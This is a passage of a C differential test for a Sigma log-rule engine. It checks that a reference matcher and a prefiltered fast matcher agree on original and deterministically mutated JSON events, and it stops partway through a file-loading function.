/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test_differential.c: differential test of the two matchers. vg_match_event (the reference
 * evaluator) and vg_match_event_fast (vectorscan literal prefilter, then the same rule
 * evaluation) must report the same rules in the same order for every event, with and
 * without a declared logsource. The prefilter may only skip rules that cannot match, so any
 * difference is a bug: the rule ids found by only one matcher are printed with the event.
 *
 * Rule sets and events:
 *  - bundled: rules/sigma over the records of rules/samples (framed and parsed as `vigil
 *    run` does: auto-detected formats, windows.json as JSON);
 *  - corpus: SigmaHQ's rules (../shared/sigma; skipped with a message when absent) over
 *    every event of its regression/ cases;
 *  - embedded: a small rule set written below that uses every value type and modifier
 *    (keywords, windash, all, base64offset, utf16, cased, numbers, re, cidr, exists, null,
 *    fieldref, neq, expand, dotted paths, "Threat Name"), over hand-written events; the
 *    rows of earlier findings belong here.
 *
 * Mutations: every event is turned into compact JSON (vg_event_to_json) and K variants are
 * made from it, each by one or two edits of that text, then parsed again (a variant that
 * does not parse is skipped): flip the case of letters; cut a string to a prefix, suffix or
 * substring; insert a literal of the rules (or a value of the events) into a string;
 * replace a string with another value or literal; swap '-', '/', U+2013, U+2014, U+2015;
 * delete a member or element; write a number as a nearby number, a string, hex ("0x1250"),
 * a float; wrap a value in an array or in {"#text": ...}; replace a value with null, true,
 * {}, ...; add a member (a rule field, an event key, "Threat Name") or rename one. The edits
 * come from a fixed-seed generator of this file (splitmix64), so every run compares the same
 * events. Originals and every 8th variant are also compared under the declared logsources
 * product=windows and product=windows,category=process_creation.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "fsutil.h"
#include "rulesrc.h"
#include "sigma/ruleset_int.h"
#include "vigil/arena.h"
#include "vigil/buf.h"
#include "vigil/match.h"
#include "vigil/parse.h"

#define SEED        0x7669676964696666ull
#define K_SAMPLES   48  /* variants per bundled sample event */
#define K_CORPUS    80  /* variants per regression event of the corpus */
#define K_EMBEDDED  300 /* variants per hand-written event */
#define DECL_EVERY  8   /* variants also compared under the declared logsources */
#define MAX_REPORTS 20  /* mismatches printed in full */
#define MAX_FILE    (64u << 20)

/* ---- deterministic generator (splitmix64) ---- */

typedef struct prng {
    uint64_t s;
} prng;

static uint64_t prng_next(prng *g)
{
    uint64_t z = (g->s += 0x9e3779b97f4a7c15ull);
    z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
    z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
    return z ^ (z >> 31);
}

static size_t below(prng *g, size_t n)
{
    return n ? (size_t)(prng_next(g) % n) : 0;
}

static bool chance(prng *g, unsigned num, unsigned den)
{
    return below(g, den) < num;
}

/* ---- string pools (spans that outlive the pool's use) ---- */

typedef struct pool {
    vg_span *v;
    size_t n, cap;
} pool;

static void pool_add(pool *p, const char *s, size_t len)
{
    if (p->n == p->cap) {
        p->cap = p->cap ? p->cap * 2 : 256;
        p->v = realloc(p->v, p->cap * sizeof(*p->v));
        assert_non_null(p->v);
    }
    p->v[p->n++] = (vg_span){s, len};
}

static vg_span pool_pick(const pool *p, prng *g)
{
    return p->n ? p->v[below(g, p->n)] : (vg_span){"x", 1};
}

/* ---- one rule set, its events and what the mutations draw from ---- */

typedef struct evlist {
    char **v; /* compact JSON, NUL-terminated */
    size_t *len;
    size_t n, cap;
} evlist;

typedef struct stats {
    size_t events;      /* original events */
    size_t variants;    /* mutated events that parsed */
    size_t unparsable;  /* mutated events that did not parse (skipped) */
    size_t comparisons; /* matcher comparisons, declared logsources included */
    size_t hits;        /* rule matches (reference, no declared logsource) */
    size_t mismatches;
} stats;

typedef struct rset {
    vg_ruleset *rs;
    vg_diags *d;
    vg_logsource decl[2];
    vg_match_scratch *ref, *fast;
    uint32_t *h_ref, *h_fast;
    size_t cap;
    pool lits;       /* literal runs of the rules' string values */
    pool fields;     /* rule field names and their candidate names */
    pool values;     /* string values of the events */
    pool keys;       /* member names of the events */
    long long *nums; /* integer literals of the rules (EventIDs, ports) */
    size_t n_nums;
    vg_arena *a; /* copies for values and keys */
    evlist events;
    vg_event *ev;
    stats st;
} rset;

static stats g_total;

static const char *const decl_specs[2] = {"product=windows",
                                          "product=windows,category=process_creation"};

static bool parse_int(const char *p, size_t n, long long *out)
{
    char tmp[32];
    if (n == 0 || n >= sizeof(tmp))
        return false;
    memcpy(tmp, p, n);
    tmp[n] = '\0';
    char *end;
    *out = strtoll(tmp, &end, 10);
    return *end == '\0' && (tmp[0] == '-' || (tmp[0] >= '0' && tmp[0] <= '9'));
}

static void pool_from_det(rset *r, const vg_det *det)
{
    for (size_t s = 0; s < det->n_sels; s++) {
        const vg_sel *sel = &det->sels[s];
        for (size_t g = 0; g < sel->n_groups; g++) {
            for (size_t k = 0; k < sel->groups[g].n; k++) {
                const vg_fcond *f = &sel->groups[g].conds[k];
                if (f->field)
                    pool_add(&r->fields, f->field, f->field_len);
                for (size_t v = 0; v < f->n_vals; v++) {
                    const vg_vmatch *vm = &f->vals[v];
                    if (vm->kind != VG_VM_GLOB)
                        continue;
                    for (size_t i = 0; i < vm->glob.parts.n; i++) {
                        const vg_spart *sp = &vm->glob.parts.parts[i];
                        if (sp->kind == VG_SP_LIT && sp->len >= 2 && sp->len <= 200)
                            pool_add(&r->lits, sp->p, sp->len);
                    }
                }
            }
        }
    }
}

/* Build the prefilter, the scratches and the pools of a finished rule set. */
static void rset_init(rset *r, vg_ruleset *rs, vg_diags *d)
{
    memset(r, 0, sizeof(*r));
    r->rs = rs;
    r->d = d;
    char err[256];
    if (vg_ruleset_build_prefilter(rs, err, sizeof(err)) != VG_OK)
        fail_msg("prefilter: %s", err);
    for (size_t i = 0; i < 2; i++)
        assert_int_equal(vg_logsource_parse(rs, decl_specs[i], &r->decl[i], err, sizeof(err)),
                         VG_OK);
    r->ref = vg_match_scratch_new(rs);
    r->fast = vg_match_scratch_new(rs);
    r->cap = vg_ruleset_count(rs) + 1;
    r->h_ref = calloc(r->cap, sizeof(uint32_t));
    r->h_fast = calloc(r->cap, sizeof(uint32_t));
    r->a = vg_arena_new(0, 0);
    r->ev = vg_event_new(NULL);
    assert_true(r->ref && r->fast && r->h_ref && r->h_fast && r->a && r->ev);
    for (size_t i = 0; i < rs->rules.n; i++)
        pool_from_det(r, &rs->rules.v[i].det);
    for (size_t i = 0; i < rs->filters.n; i++)
        pool_from_det(r, &rs->filters.v[i].det);
    for (size_t i = 0; i < rs->ls.n; i++)
        pool_from_det(r, &rs->ls.v[i].when);
    for (size_t i = 0; i < rs->fslots.n; i++)
        for (size_t c = 1; c < rs->fslots.v[i].n_cands; c++)
            pool_add(&r->fields, rs->fslots.v[i].cands[c], rs->fslots.v[i].cand_len[c]);
    r->nums = calloc(r->lits.n + 1, sizeof(long long));
    assert_non_null(r->nums);
    for (size_t i = 0; i < r->lits.n; i++)
        if (parse_int(r->lits.v[i].p, r->lits.v[i].len, &r->nums[r->n_nums]))
            r->n_nums++;
}

static void rset_fini(rset *r)
{
    g_total.events += r->st.events;
    g_total.variants += r->st.variants;
    g_total.unparsable += r->st.unparsable;
    g_total.comparisons += r->st.comparisons;
    g_total.hits += r->st.hits;
    g_total.mismatches += r->st.mismatches;
    for (size_t i = 0; i < r->events.n; i++)
        free(r->events.v[i]);
    free(r->events.v);
    free(r->events.len);
    free(r->lits.v);
    free(r->fields.v);
    free(r->values.v);
    free(r->keys.v);
    free(r->nums);
    vg_arena_free(r->a);
    vg_event_free(r->ev);
    free(r->h_ref);
    free(r->h_fast);
    vg_match_scratch_free(r->ref);
    vg_match_scratch_free(r->fast);
    vg_ruleset_free(r->rs);
    vg_diags_free(r->d);
}

/* ---- comparing the matchers ---- */

static bool listed(const uint32_t *v, size_t n, uint32_t x)
{
    for (size_t i = 0; i < n; i++)
        if (v[i] == x)
            return true;
    return false;
}

static void print_only(
        const rset *r, const char *what, const uint32_t *a, size_t na, const uint32_t *b, size_t nb)
{
    for (size_t i = 0; i < na; i++) {
        if (listed(b, nb, a[i]))
            continue;
        vg_rule_info info;
        vg_ruleset_rule_info(r->rs, a[i], &info);
        print_message("    only %s: %s (%s)\n", what, info.id, info.title);
    }
}

/* Run both matchers on an indexed event; on a difference print it and count it. */
static void compare(rset *r, const vg_event *ev, int decl, const char *label)
{
    const vg_logsource *ls = decl >= 0 ? &r->decl[decl] : NULL;
    size_t n1 = vg_match_event(r->rs, r->ref, ev, ls, r->h_ref, r->cap);
    size_t n2 = vg_match_event_fast(r->rs, r->fast, ev, ls, r->h_fast, r->cap);
    r->st.comparisons++;
    if (decl < 0)
        r->st.hits += n1;
    if (n1 == n2 && memcmp(r->h_ref, r->h_fast, n1 * sizeof(uint32_t)) == 0)
        return;
    if (r->st.mismatches++ >= MAX_REPORTS)
        return;
    vg_buf b;
    vg_buf_init(&b, 0);
    vg_event_to_json(ev, &b);
    print_message("MISMATCH %s, declared logsource: %s\n  event: %.*s\n"
                  "  reference: %zu rules, fast: %zu rules\n",
                  label, ls ? decl_specs[decl] : "none", (int)b.len, b.len ? b.p : "", n1, n2);
    print_only(r, "reference", r->h_ref, n1, r->h_fast, n2);
    print_only(r, "fast", r->h_fast, n2, r->h_ref, n1);
    if (n1 == n2)
        print_message("    same rules, different order\n");
    vg_buf_fini(&b);
}

static void compare_all(rset *r, const vg_event *ev, bool with_decl, const char *label)
{
    compare(r, ev, -1, label);
    if (with_decl) {
        compare(r, ev, 0, label);
        compare(r, ev, 1, label);
    }
}

/* ---- compact JSON: locating values ---- */

typedef enum jkind {
    J_STR,
    J_NUM,
    J_LIT, /* true, false, null */
    J_OBJ,
    J_ARR
} jkind;

#define JM(k)  (1u << (k))
#define JM_ANY (JM(J_STR) | JM(J_NUM) | JM(J_LIT) | JM(J_OBJ) | JM(J_ARR))

typedef struct jval {
    size_t mstart;       /* start of the member ("key":value) or element */
    size_t kstart, kend; /* the key, quotes included (members only) */
    size_t start, end;   /* the value */
    jkind kind;
    bool member;
} jval;

typedef struct jdoc {
    jval *v; /* v[0] is the root */
    size_t n, cap;
} jdoc;

static size_t skip_ws(const char *t, size_t n, size_t i)
{
    while (i < n && (t[i] == ' ' || t[i] == '\t' || t[i] == '\n' || t[i] == '\r'))
        i++;
    return i;
}

/* t[i] is '"': the offset after the closing quote, or SIZE_MAX. */
static size_t str_end(const char *t, size_t n, size_t i)
{
    for (i++; i < n; i++) {
        if (t[i] == '\\')
            i++;
        else if (t[i] == '"')
            return i + 1;
    }
    return SIZE_MAX;
}

static bool is_num_char(char c)
{
    return (c >= '0' && c <= '9') || c == '-' || c == '+' || c == '.' || c == 'e' || c == 'E';
}

static bool
scan_value(jdoc *d, const char *t, size_t n, size_t *pos, size_t ks, size_t ke, int depth)
{
    size_t i = skip_ws(t, n, *pos);
    if (i >= n || depth > 64)
        return false;
    if (d->n == d->cap) {
        d->cap = d->cap ? d->cap * 2 : 64;
        d->v = realloc(d->v, d->cap * sizeof(*d->v));
        assert_non_null(d->v);
    }
    size_t me = d->n++;
    bool member = ks != SIZE_MAX;
    d->v[me] = (jval){member ? ks : i, ks, ke, i, i, J_LIT, member};
    jkind kind;
    if (t[i] == '"') {
        kind = J_STR;
        i = str_end(t, n, i);
        if (i == SIZE_MAX)
            return false;
    } else if (t[i] == '{' || t[i] == '[') {
        bool obj = t[i] == '{';
        char close = obj ? '}' : ']';
        kind = obj ? J_OBJ : J_ARR;
        i = skip_ws(t, n, i + 1);
        if (i < n && t[i] == close) {
            i++;
        } else {
            for (;;) {
                size_t cks = SIZE_MAX, cke = SIZE_MAX;
                if (obj) {
                    i = skip_ws(t, n, i);
                    if (i >= n || t[i] != '"')
                        return false;
                    cks = i;
                    cke = str_end(t, n, i);
                    if (cke == SIZE_MAX)
                        return false;
                    i = skip_ws(t, n, cke);
                    if (i >= n || t[i] != ':')
                        return false;
                    i++;
                }
                if (!scan_value(d, t, n, &i, cks, cke, depth + 1))
                    return false;
                i = skip_ws(t, n, i);
                if (i < n && t[i] == ',') {
                    i++;
                    continue;
                }
                if (i < n && t[i] == close) {
                    i++;
                    break;
                }
                return false;
            }
        }
    } else if (t[i] == '-' || (t[i] >= '0' && t[i] <= '9')) {
        kind = J_NUM;
        while (i < n && is_num_char(t[i]))
            i++;
    } else {
        kind = J_LIT;
        while (i < n && t[i] >= 'a' && t[i] <= 'z')
            i++;
    }
    d->v[me].kind = kind;
    d->v[me].end = i;
    *pos = i;
    return true;
}

static bool jdoc_scan(jdoc *d, const char *t, size_t n)
{
    d->n = 0;
    size_t pos = 0;
    return scan_value(d, t, n, &pos, SIZE_MAX, SIZE_MAX, 0) && d->v[0].kind == J_OBJ;
}

/* A random value whose kind is in mask (not the root), or SIZE_MAX. */
static size_t jdoc_pick(const jdoc *d, prng *g, unsigned mask, bool members_only)
{
    size_t cnt = 0;
    for (size_t i = 1; i < d->n; i++)
        if ((mask & JM(d->v[i].kind)) && (!members_only || d->v[i].member))
            cnt++;
    if (cnt == 0)
        return SIZE_MAX;
    size_t k = below(g, cnt);
    for (size_t i = 1; i < d->n; i++)
        if ((mask & JM(d->v[i].kind)) && (!members_only || d->v[i].member) && k-- == 0)
            return i;
    return SIZE_MAX;
}

static unsigned hex4(const char *p)
{
    unsigned v = 0;
    for (int i = 0; i < 4; i++) {
        char c = p[i];
        unsigned x = c >= '0' && c <= '9'   ? (unsigned)(c - '0')
                     : c >= 'a' && c <= 'f' ? (unsigned)(c - 'a' + 10)
                     : c >= 'A' && c <= 'F' ? (unsigned)(c - 'A' + 10)
                                            : 0;
        v = v * 16 + x;
    }
    return v;
}

static void put_utf8(vg_buf *b, unsigned cp)
{
    if (cp < 0x80) {
        vg_buf_putc(b, (char)cp);
    } else if (cp < 0x800) {
        vg_buf_putc(b, (char)(0xC0 | (cp >> 6)));
        vg_buf_putc(b, (char)(0x80 | (cp & 0x3F)));
    } else if (cp < 0x10000) {
        vg_buf_putc(b, (char)(0xE0 | (cp >> 12)));
        vg_buf_putc(b, (char)(0x80 | ((cp >> 6) & 0x3F)));
        vg_buf_putc(b, (char)(0x80 | (cp & 0x3F)));
    } else {
        vg_buf_putc(b, (char)(0xF0 | (cp >> 18)));
        vg_buf_putc(b, (char)(0x80 | ((cp >> 12) & 0x3F)));
        vg_buf_putc(b, (char)(0x80 | ((cp >> 6) & 0x3F)));
        vg_buf_putc(b, (char)(0x80 | (cp & 0x3F)));
    }
}

/* Append the bytes of the JSON string t[start, end) (quotes included) to out. */
static void json_unescape(const char *t, size_t start, size_t end, vg_buf *out)
{
    size_t last = end - 1; /* the closing quote */
    for (size_t i = start + 1; i < last; i++) {
        if (t[i] != '\\') {
            vg_buf_putc(out, t[i]);
            continue;
        }
        if (++i >= last)
            break;
        switch (t[i]) {
        case 'b':
            vg_buf_putc(out, '\b');
            break;
        case 'f':
            vg_buf_putc(out, '\f');
            break;
        case 'n':
            vg_buf_putc(out, '\n');
            break;
        case 'r':
            vg_buf_putc(out, '\r');
            break;
        case 't':
            vg_buf_putc(out, '\t');
            break;
        case 'u': {
            if (i + 4 >= last)
                return;
            unsigned cp = hex4(t + i + 1);
            i += 4;
            if (cp >= 0xD800 && cp <= 0xDBFF && i + 6 < last && t[i + 1] == '\\' &&
                t[i + 2] == 'u') {
                unsigned lo = hex4(t + i + 3);
                if (lo >= 0xDC00 && lo <= 0xDFFF) {
                    cp = 0x10000 + ((cp - 0xD800) << 10) + (lo - 0xDC00);
                    i += 6;
                }
            }
            put_utf8(out, cp);
            break;
        }
        default:
            vg_buf_putc(out, t[i]);
            break;
        }
    }
}

static void put_json_str(vg_buf *b, const char *p, size_t n)
{
    vg_buf_putc(b, '"');
    vg_buf_json_str(b, p, n);
    vg_buf_putc(b, '"');
}

/* out = t[0, a) + rep + t[b, n) */
static void splice(vg_buf *out, const char *t, size_t n, size_t a, size_t b, const vg_buf *rep)
{
    vg_buf_clear(out);
    vg_buf_append(out, t, a);
    vg_buf_append(out, rep->p, rep->len);
    vg_buf_append(out, t + b, n - b);
}

/* Remember the string values and keys of an event for later mutations. */
static void harvest(rset *r, const char *t, size_t n)
{
    jdoc d = {0};
    vg_buf s;
    vg_buf_init(&s, 0);
    if (jdoc_scan(&d, t, n)) {
        for (size_t i = 1; i < d.n; i++) {
            const jval *v = &d.v[i];
            if (v->kind == J_STR) {
                vg_buf_clear(&s);
                json_unescape(t, v->start, v->end, &s);
                if (s.len > 0 && s.len <= 400) {
                    char *c = vg_arena_memdup(r->a, s.p, s.len);
                    assert_non_null(c);
                    pool_add(&r->values, c, s.len);
                }
            }
            if (v->member) {
                vg_buf_clear(&s);
                json_unescape(t, v->kstart, v->kend, &s);
                if (s.len > 0 && s.len <= 100) {
                    char *c = vg_arena_memdup(r->a, s.p, s.len);
                    assert_non_null(c);
                    pool_add(&r->keys, c, s.len);
                }
            }
        }
    }
    vg_buf_fini(&s);
    free(d.v);
}

/* ---- mutations ---- */

enum {
    OP_CASE,
    OP_CUT,
    OP_INSERT,
    OP_REPLACE,
    OP_DASH,
    OP_DELETE,
    OP_NUMBER,
    OP_WRAP,
    OP_SCALAR,
    OP_ADD_MEMBER,
    OP_RENAME,
    N_OPS
};

static const char *const dashes[] = {"-", "/", "\xE2\x80\x93", "\xE2\x80\x94", "\xE2\x80\x95"};

/* Length of the dash at s[0, n) or 0 (the five windash characters). */
static size_t dash_at(const char *s, size_t n)
{
    if (s[0] == '-' || s[0] == '/')
        return 1;
    if (n >= 3 && (unsigned char)s[0] == 0xE2 && (unsigned char)s[1] == 0x80 &&
        (unsigned char)s[2] >= 0x93 && (unsigned char)s[2] <= 0x95)
        return 3;
    return 0;
}

static char flip_case(char c)
{
    if (c >= 'a' && c <= 'z')
        return (char)(c - 'a' + 'A');
    if (c >= 'A' && c <= 'Z')
        return (char)(c - 'A' + 'a');
    return c;
}

/* A fragment to put into a string: a literal of the rules, or a piece of an event value. */
static vg_span fragment(const rset *r, prng *g)
{
    if (r->lits.n && chance(g, 3, 4))
        return pool_pick(&r->lits, g);
    vg_span v = pool_pick(&r->values, g);
    if (v.len > 2 && chance(g, 1, 2)) {
        size_t a = below(g, v.len);
        size_t b = a + 1 + below(g, v.len - a);
        v = (vg_span){v.p + a, b - a};
    }
    return v;
}

/* Edit the bytes of a string value (s) into ns. false if this edit does not apply. */
static bool edit_string(int op, const rset *r, prng *g, const vg_buf *s, vg_buf *ns)
{
    const char *p = s->len ? s->p : "";
    size_t n = s->len;
    switch (op) {
    case OP_CASE: {
        size_t letters = 0;
        for (size_t i = 0; i < n; i++)
            letters += flip_case(p[i]) != p[i];
        if (letters == 0)
            return false;
        int mode = (int)below(g, 4);
        size_t one = below(g, letters), seen = 0;
        for (size_t i = 0; i < n; i++) {
            char c = p[i];
            if (flip_case(c) != c) {
                bool up = c >= 'a' && c <= 'z';
                if ((mode == 0 && !up) || (mode == 1 && up) || (mode == 2 && chance(g, 1, 2)) ||
                    (mode == 3 && seen == one))
                    c = flip_case(c);
                seen++;
            }
            vg_buf_putc(ns, c);
        }
        return true;
    }
    case OP_CUT: {
        if (n == 0)
            return false;
        size_t a = 0, b = n;
        switch (below(g, 3)) {
        case 0:
            b = below(g, n);
            break;
        case 1:
            a = 1 + below(g, n);
            break;
        default:
            a = below(g, n);
            b = a + below(g, n - a + 1);
            break;
        }
        vg_buf_append(ns, p + a, b - a);
        return true;
    }
    case OP_INSERT: {
        vg_span f = fragment(r, g);
        size_t at = below(g, n + 1);
        bool flip = chance(g, 1, 4);
        vg_buf_append(ns, p, at);
        for (size_t i = 0; i < f.len; i++)
            vg_buf_putc(ns, flip ? flip_case(f.p[i]) : f.p[i]);
        vg_buf_append(ns, p + at, n - at);
        return true;
    }
    case OP_REPLACE: {
        size_t how = below(g, 4);
        vg_span f = how == 0 ? pool_pick(&r->lits, g) : pool_pick(&r->values, g);
        if (how == 3) { /* a literal inside some other text */
            vg_span pre = pool_pick(&r->values, g), lit = pool_pick(&r->lits, g);
            vg_buf_append(ns, pre.p, below(g, pre.len + 1));
            vg_buf_append(ns, lit.p, lit.len);
            vg_buf_append(ns, pre.p, below(g, pre.len + 1));
            return true;
        }
        vg_buf_append(ns, f.p, f.len);
        return true;
    }
    case OP_DASH: {
        size_t count = 0;
        for (size_t i = 0; i < n;) {
            size_t dl = dash_at(p + i, n - i);
            count += dl > 0;
            i += dl ? dl : 1;
        }
        if (count == 0) { /* no dash yet: put one in */
            size_t at = below(g, n + 1);
            vg_buf_append(ns, p, at);
            vg_buf_puts(ns, dashes[below(g, 5)]);
            vg_buf_append(ns, p + at, n - at);
            return true;
        }
        bool every = chance(g, 1, 4);
        size_t which = below(g, count), seen = 0;
        for (size_t i = 0; i < n;) {
            size_t dl = dash_at(p + i, n - i);
            if (!dl) {
                vg_buf_putc(ns, p[i++]);
                continue;
            }
            if (every || seen == which) {
                const char *d;
                do
                    d = dashes[below(g, 5)];
                while (strlen(d) == dl && memcmp(d, p + i, dl) == 0);
                vg_buf_puts(ns, d);
            } else {
                vg_buf_append(ns, p + i, dl);
            }
            seen++;
            i += dl;
        }
        return true;
    }
    default:
        return false;
    }
}

/* A number in another form: nearby, as a string, hex, float, with a leading zero. */
static void number_form(prng *g, long long x, vg_buf *rep)
{
    switch (below(g, 9)) {
    case 0:
        vg_buf_printf(rep, "%lld", x + (long long)below(g, 7) - 3);
        break;
    case 1:
        vg_buf_printf(rep, "\"%lld\"", x);
        break;
    case 2:
        if (x >= 0)
            vg_buf_printf(rep, "\"0x%llX\"", (unsigned long long)x);
        else
            vg_buf_printf(rep, "\"%lld\"", x);
        break;
    case 3:
        if (x >= 0)
            vg_buf_printf(rep, "\"0x%llx\"", (unsigned long long)x);
        else
            vg_buf_printf(rep, "%lld", -x);
        break;
    case 4:
        vg_buf_printf(rep, "%lld.0", x);
        break;
    case 5:
        vg_buf_printf(rep, "\"0%lld\"", x);
        break;
    case 6:
        vg_buf_printf(rep, "%lld", x);
        break;
    case 7:
        vg_buf_printf(rep, "\" %lld\"", x);
        break;
    default:
        vg_buf_printf(rep, "%llde0", x);
        break;
    }
}

static const long long event_ids[] = {1,    3,    4,    5,    7,    8,    10,   11,   12,   13,
                                      15,   17,   22,   23,   4104, 4624, 4625, 4688, 4698, 4720,
                                      4732, 5140, 5145, 7036, 7045, 800,  4103, 1102, 104,  6};

/* A number the rules or the mappings name, or a common EventID. */
static long long some_number(const rset *r, prng *g)
{
    if (r->n_nums && chance(g, 1, 2))
        return r->nums[below(g, r->n_nums)];
    return event_ids[below(g, sizeof(event_ids) / sizeof(event_ids[0]))];
}

/* Apply one random edit to t[0, n) into out. false if the chosen edit did not apply. */
static bool mutate_once(const rset *r,
                        prng *g,
                        const char *t,
                        size_t n,
                        jdoc *d,
                        vg_buf *out,
                        vg_buf *s,
                        vg_buf *ns,
                        vg_buf *rep)
{
    if (!jdoc_scan(d, t, n))
        return false;
    int op = (int)below(g, N_OPS);
    vg_buf_clear(s);
    vg_buf_clear(ns);
    vg_buf_clear(rep);
    switch (op) {
    case OP_CASE:
    case OP_CUT:
    case OP_INSERT:
    case OP_REPLACE:
    case OP_DASH: {
        size_t i = jdoc_pick(d, g, JM(J_STR), false);
        if (i == SIZE_MAX)
            return false;
        json_unescape(t, d->v[i].start, d->v[i].end, s);
        if (!edit_string(op, r, g, s, ns))
            return false;
        put_json_str(rep, ns->len ? ns->p : "", ns->len);
        splice(out, t, n, d->v[i].start, d->v[i].end, rep);
        return true;
    }
    case OP_DELETE: {
        size_t i = jdoc_pick(d, g, JM_ANY, false);
        if (i == SIZE_MAX)
            return false;
        size_t a = d->v[i].mstart, b = d->v[i].end;
        if (a > 0 && t[a - 1] == ',')
            a--;
        else if (b < n && t[b] == ',')
            b++;
        splice(out, t, n, a, b, rep);
        return true;
    }
    case OP_NUMBER: {
        size_t i = jdoc_pick(d, g, JM(J_NUM), false);
        long long x;
        if (i != SIZE_MAX && parse_int(t + d->v[i].start, d->v[i].end - d->v[i].start, &x)) {
            number_form(g, chance(g, 1, 4) ? some_number(r, g) : x, rep);
        } else if (i != SIZE_MAX) {
            vg_buf_putc(rep, '"');
            vg_buf_append(rep, t + d->v[i].start, d->v[i].end - d->v[i].start);
            vg_buf_putc(rep, '"');
        } else {
            /* no number: a string (digits become a number, others get an EventID) */
            i = jdoc_pick(d, g, JM(J_STR), false);
            if (i == SIZE_MAX)
                return false;
            json_unescape(t, d->v[i].start, d->v[i].end, s);
            if (!parse_int(s->p, s->len, &x))
                x = some_number(r, g);
            number_form(g, x, rep);
        }
        splice(out, t, n, d->v[i].start, d->v[i].end, rep);
        return true;
    }
    case OP_WRAP: {
        size_t i = jdoc_pick(d, g, JM_ANY, false);
        if (i == SIZE_MAX)
            return false;
        const char *v = t + d->v[i].start;
        int vl = (int)(d->v[i].end - d->v[i].start);
        vg_span o = pool_pick(&r->values, g);
        switch (below(g, 6)) {
        case 0:
            vg_buf_printf(rep, "[%.*s]", vl, v);
            break;
        case 1:
            vg_buf_printf(rep, "[%.*s,", vl, v);
            put_json_str(rep, o.p, o.len);
            vg_buf_putc(rep, ']');
            break;
        case 2:
            vg_buf_putc(rep, '[');
            put_json_str(rep, o.p, o.len);
            vg_buf_printf(rep, ",%.*s]", vl, v);
            break;
        case 3:
            vg_buf_printf(rep, "{\"#text\":%.*s}", vl, v);
            break;
        case 4:
            vg_buf_printf(rep, "{\"#attributes\":{\"Qualifiers\":16384},\"#text\":%.*s}", vl, v);
            break;
        default:
            vg_buf_printf(rep, "[[%.*s]]", vl, v);
            break;
        }
        splice(out, t, n, d->v[i].start, d->v[i].end, rep);
        return true;
    }
    case OP_SCALAR: {
        static const char *const repl[] = {"null", "true", "false", "{}", "[]", "\"\"", "0"};
        size_t i = jdoc_pick(d, g, JM_ANY, false);
        if (i == SIZE_MAX)
            return false;
        vg_buf_puts(rep, repl[below(g, sizeof(repl) / sizeof(repl[0]))]);
        splice(out, t, n, d->v[i].start, d->v[i].end, rep);
        return true;
    }
    case OP_ADD_MEMBER:
    case OP_RENAME: {
        vg_span key;
        switch (below(g, 6)) {
        case 0:
            key = vg_span_cstr(chance(g, 1, 2) ? "Threat Name" : "Command Line");
            break;
        case 1:
        case 2:
            key = pool_pick(&r->fields, g);
            break;
        case 3: { /* a rule field with a space in it */
            vg_span f = pool_pick(&r->fields, g);
            size_t at = below(g, f.len + 1);
            vg_buf_append(ns, f.p, at);
            vg_buf_putc(ns, ' ');
            vg_buf_append(ns, f.p + at, f.len - at);
            key = (vg_span){ns->p, ns->len};
            break;
        }
        default:
            key = pool_pick(&r->keys, g);
            break;
        }
        if (op == OP_RENAME) {
            size_t i = jdoc_pick(d, g, JM_ANY, true);
            if (i == SIZE_MAX)
                return false;
            put_json_str(rep, key.p, key.len);
            splice(out, t, n, d->v[i].kstart, d->v[i].kend, rep);
            return true;
        }
        size_t obj = 0; /* the root, or another object */
        if (chance(g, 1, 2)) {
            size_t o = jdoc_pick(d, g, JM(J_OBJ), false);
            if (o != SIZE_MAX)
                obj = o;
        }
        put_json_str(rep, key.p, key.len);
        vg_buf_putc(rep, ':');
        switch (below(g, 4)) {
        case 0: {
            vg_span f = fragment(r, g);
            put_json_str(rep, f.p, f.len);
            break;
        }
        case 1: {
            vg_span v = pool_pick(&r->values, g);
            put_json_str(rep, v.p, v.len);
            break;
        }
        case 2:
            number_form(g, some_number(r, g), rep);
            break;
        default: { /* a copy of a value of this event */
            size_t i = jdoc_pick(d, g, JM_ANY, false);
            if (i == SIZE_MAX)
                vg_buf_puts(rep, "null");
            else
                vg_buf_append(rep, t + d->v[i].start, d->v[i].end - d->v[i].start);
            break;
        }
        }
        size_t at = d->v[obj].start + 1;
        if (t[at] != '}')
            vg_buf_putc(rep, ',');
        splice(out, t, n, at, at, rep);
        return true;
    }
    }
    return false;
}

/* A variant of t in out: one edit, sometimes two. false if no edit applied. */
static bool mutate(const rset *r, prng *g, const char *t, size_t n, vg_buf *out)
{
    jdoc d = {0};
    vg_buf cur, s, ns, rep;
    vg_buf_init(&cur, 0);
    vg_buf_init(&s, 0);
    vg_buf_init(&ns, 0);
    vg_buf_init(&rep, 0);
    vg_buf_append(&cur, t, n);
    size_t edits = chance(g, 1, 3) ? 2 : 1, done = 0;
    for (int tries = 0; done < edits && tries < 16; tries++) {
        if (mutate_once(r, g, cur.p, cur.len, &d, out, &s, &ns, &rep)) {
            done++;
            vg_buf_clear(&cur);
            vg_buf_append(&cur, out->p ? out->p : "", out->len);
        }
    }
    vg_buf_clear(out);
    vg_buf_append(out, cur.p, cur.len);
    assert_int_equal(vg_buf_status(out), VG_OK);
    vg_buf_fini(&cur);
    vg_buf_fini(&s);
    vg_buf_fini(&ns);
    vg_buf_fini(&rep);
    free(d.v);
    return done > 0;
}

/* ---- driving ---- */

/* Compare an original event, keep its compact JSON for the variants. */
static void add_event(rset *r, vg_event *ev, const char *label)
{
    assert_int_equal(vg_event_index(ev), VG_OK);
    compare_all(r, ev, true, label);
    r->st.events++;
    vg_buf b;
    vg_buf_init(&b, 0);
    vg_event_to_json(ev, &b);
    assert_int_equal(vg_buf_status(&b), VG_OK);
    evlist *l = &r->events;
    if (l->n == l->cap) {
        l->cap = l->cap ? l->cap * 2 : 64;
        l->v = realloc(l->v, l->cap * sizeof(*l->v));
        l->len = realloc(l->len, l->cap * sizeof(*l->len));
        assert_true(l->v && l->len);
    }
    l->v[l->n] = vg_strndup(b.len ? b.p : "", b.len);
    l->len[l->n] = b.len;
    assert_non_null(l->v[l->n]);
    harvest(r, l->v[l->n], b.len);
    l->n++;
    vg_buf_fini(&b);
}

/* Frame and parse every record of a file; each one is an original event. */
static void add_file(rset *r, const char *path, vg_format fmt)
{
    char *text;
    size_t len;
